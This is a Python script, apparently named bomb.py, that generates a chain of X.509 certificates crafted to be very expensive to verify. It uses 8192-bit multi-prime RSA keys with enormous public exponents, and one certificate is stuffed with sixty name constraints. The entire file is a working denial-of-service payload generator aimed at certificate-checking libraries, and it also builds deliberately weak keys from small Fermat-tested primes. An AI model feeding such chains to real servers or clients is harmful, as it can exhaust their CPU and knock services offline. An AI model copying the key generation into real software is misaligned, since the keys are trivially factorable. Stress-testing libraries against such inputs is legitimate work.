#!/usr/bin/env python3
"""bomb.py FILE -- a chain that is dear to verify: RSA keys of 8192 bits with public exponents of as many.

Each certificate has signed the one before it, so that a library that begins goes on to the end; the second
one has as many name constraints as fit.  The modulus is a product of small primes, which are found at
once; to sign is cheap, since the private exponent is the short one.
"""
import base64
import hashlib
import random
import sys

BITS, CHAIN, CONSTRAINTS = 8192, 4, 60


def der(tag, *parts):
    content = b''.join(parts)
    n = len(content)
    size = bytes([n]) if n < 128 else bytes([0x82, n >> 8, n & 255])
    return bytes([tag]) + size + content


def number(n):
    return der(2, n.to_bytes(n.bit_length() // 8 + 1, 'big'))


def oid(*tail):
    return der(6, bytes(tail))


def prime(bits):
    """By Fermat's test: good enough for a key that protects nothing."""
    while True:
        n = random.getrandbits(bits) | 3 << bits - 2 | 1
        if pow(2, n - 1, n) == 1:
            return n


def keys():
    """Modulus, private exponent, public exponent."""
    while True:
        modulus = order = 1
        for _ in range(BITS // 256):
            p = prime(256)
            modulus *= p
            order *= p - 1
        try:
            return modulus, 65537, pow(65537, -1, order)
        except ValueError:
            continue


RSA = oid(0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1)
SHA256_RSA = der(0x30, oid(0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 11), b'\x05\x00')
SHA256 = der(0x30, oid(0x60, 0x86, 0x48, 1, 0x65, 3, 4, 2, 1), b'\x05\x00')


def sign(text, modulus, private):
    digest = der(0x30, SHA256, der(4, hashlib.sha256(text).digest()))
    size = (modulus.bit_length() + 7) // 8
    padded = b'\0\1' + b'\xff' * (size - 3 - len(digest)) + b'\0' + digest
    return pow(int.from_bytes(padded, 'big'), private, modulus).to_bytes(size, 'big')


def name(n):
    return der(0x30, der(0x31, der(0x30, oid(0x55, 4, 3), der(12, b'bomb %d' % n))))


def extension(which, critical, value):
    return der(0x30, oid(0x55, 0x1d, which), b'\x01\x01\xff' if critical else b'', der(4, value))


def extensions(n):
    if n == 0:
        return extension(17, False, der(0x30, der(0x82, b'fab.example')))
    few = extension(19, True, der(0x30, b'\x01\x01\xff'))
    return few if n != 1 else few + extension(30, False, der(0x30, der(0xa0, *(
        der(0x30, der(0x82, b'partner%02d.example' % i)) for i in range(CONSTRAINTS)))))


def main():
    modulus, private, public = keys()
    key = der(0x30, der(0x30, RSA, b'\x05\x00'), der(3, b'\0', der(0x30, number(modulus), number(public))))
    with open(sys.argv[1], 'w') as out:
        for n in range(CHAIN):
            body = der(0x30, der(0xa0, number(2)), number(4711 + n), SHA256_RSA, name(n + 1),
                       der(0x30, der(23, b'250101000000Z'), der(23, b'450101000000Z')), name(n), key,
                       der(0xa3, der(0x30, extensions(n))))
            whole = der(0x30, body, SHA256_RSA, der(3, b'\0', sign(body, modulus, private)))
            out.write('-----BEGIN CERTIFICATE-----\n%s-----END CERTIFICATE-----\n'
                      % base64.encodebytes(whole).decode())


main()
